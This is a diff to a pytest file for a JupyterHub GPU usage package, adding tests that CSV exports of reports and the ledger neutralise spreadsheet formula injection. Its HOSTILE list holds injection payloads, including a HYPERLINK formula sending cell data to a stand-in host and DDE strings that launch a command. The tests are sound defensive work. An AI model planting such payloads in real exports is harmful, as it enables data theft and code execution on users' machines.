@@ -5,6 +5,8 @@ appear neither on the page nor in the log."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from urllib.parse import parse_qs
 
@@ -12,9 +14,11 @@ import pytest
 
 from jupyterhub_gpu.usage.access import BadQuery, NotVisible, Query, Selection, Viewer, visible
 from jupyterhub_gpu.usage.config import DEFAULT_DAYS, MAX_DAYS
-from jupyterhub_gpu.usage.ledger import NAME_CHARS
+from jupyterhub_gpu.usage.ledger import NAME_CHARS, Kind
+from jupyterhub_gpu.usage.page import FORMULA_START, figures, report, to_csv
+from jupyterhub_gpu.usage.telemetry import Telemetry
 
-from .test_usage_page import ROWS, spec  # noqa: F401 - spec is a fixture
+from .test_usage_page import ROWS, WINDOW, row, spec  # noqa: F401 - spec is a fixture
 
 
 def arguments(query: str) -> dict[str, list[bytes]]:
@@ -72,3 +76,44 @@ def test_a_lead_asking_for_a_user_outside_their_team_is_refused(spec):  # noqa: 
     assert visible(ROWS, lead, Selection(user="lee")) == []  # their own: nothing to hide
     admin = Viewer("root", admin=True)
     assert visible(ROWS, admin, Selection(user="nobody")) == []
+
+
+HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_never_start_a_formula_and_numbers_are_kept(spec):  # noqa: F811
+    rows = [row(str(i), team=name, user=name, profile=name, server=name, kind=Kind.JOB)
+            for i, name in enumerate(HOSTILE)]
+    r = report(rows, Viewer("root", admin=True), Selection(), WINDOW, 3, spec,
+               Telemetry({}, "no Prometheus is configured"))
+    table = list(csv.reader(io.StringIO(to_csv(r), newline="")))
+    assert len(table) == 1 + len(list(figures(r)))
+    names = {cell for line in table[1:] for cell in line[:3]}
+    assert {f"'{name}" for name in HOSTILE} <= names  # each, kept whole behind a quote
+    assert not [cell for cell in names if cell.startswith(FORMULA_START)]
+    assert [line[3] for line in table[1:]] == [value for *_, value in figures(r)]
+    assert ["team", f"'{HOSTILE[0]}", "gpu_hours", "1.00"] in table
+
+
+def test_the_ledger_export_never_starts_a_formula(tmp_path, capsys):
+    from jupyterhub_gpu.cli import main
+    from jupyterhub_gpu.usage.ledger import Ledger
+
+    url = f"sqlite:///{tmp_path}/usage.sqlite"
+    ledger = Ledger(url)
+    try:
+        for i, name in enumerate(HOSTILE):
+            ledger.record_sync(row(f"job:{i}", user=name, server=name, team="a", units=2,
+                                   price=0.5, kind=Kind.JOB))
+    finally:
+        ledger.dispose()
+    assert main(["usage", "export", "--db-url", url]) == 0
+    header, *lines = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
+    table = [header, *lines]
+    assert len(table) == len(HOSTILE)
+    assert sorted(r["user"] for r in table) == sorted(f"'{n}" for n in HOSTILE)
+    assert sorted(r["server"] for r in table) == sorted(f"'{n}" for n in HOSTILE)
+    assert {(r["team"], r["gpu_units"], r["price_per_unit_hour"]) for r in table} == {
+        ("a", "2", "0.5")}
+    assert not [v for r in table for v in r.values() if v.startswith(FORMULA_START)]
